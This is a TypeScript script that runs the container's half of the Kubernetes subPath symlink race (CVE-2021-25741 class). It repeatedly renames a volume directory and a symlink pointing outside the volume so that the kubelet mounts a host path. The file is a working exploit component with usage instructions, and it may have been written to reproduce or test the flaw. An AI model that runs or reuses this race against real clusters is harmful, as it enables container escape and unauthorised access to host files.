// A container's half of the subPath race (CVE-2021-25741 class), as its own process so it runs while
// the kubelet checks and mounts: `<vol>/<name>` flips between the real directory and a symlink out of
// the volume, by renames, as fast as it can. Usage: bun subpath-racer.ts <vol> <name> <linkTarget>.
// `<vol>/.stash-dir` holds the directory and `<vol>/.stash-link` the symlink while not at <name>; a
// step that fails (the kubelet created <name> meanwhile) is skipped, and the last one puts the directory back.
import { renameSync, symlinkSync } from "node:fs";
import { join } from "node:path";

const [vol, name, linkTarget] = process.argv.slice(2) as [string, string, string];
const at = join(vol, name);
const stashDir = join(vol, ".stash-dir");
const stashLink = join(vol, ".stash-link");
symlinkSync(linkTarget, stashLink);
const step = (from: string, to: string) => {
  try {
    renameSync(from, to);
  } catch {
    // the kubelet made <name> meanwhile, or a step before failed: the next steps repair it
  }
};
let junk = 0;
/** The directory back at <name>; a directory the kubelet created there meanwhile is moved aside. */
const putBack = () => {
  try {
    renameSync(stashDir, at);
  } catch {
    step(at, join(vol, `.junk-${junk++}`));
    step(stashDir, at);
  }
};
process.stdout.write("racing\n");
for (;;) {
  step(at, stashDir);
  step(stashLink, at);
  step(at, stashLink);
  putBack();
}
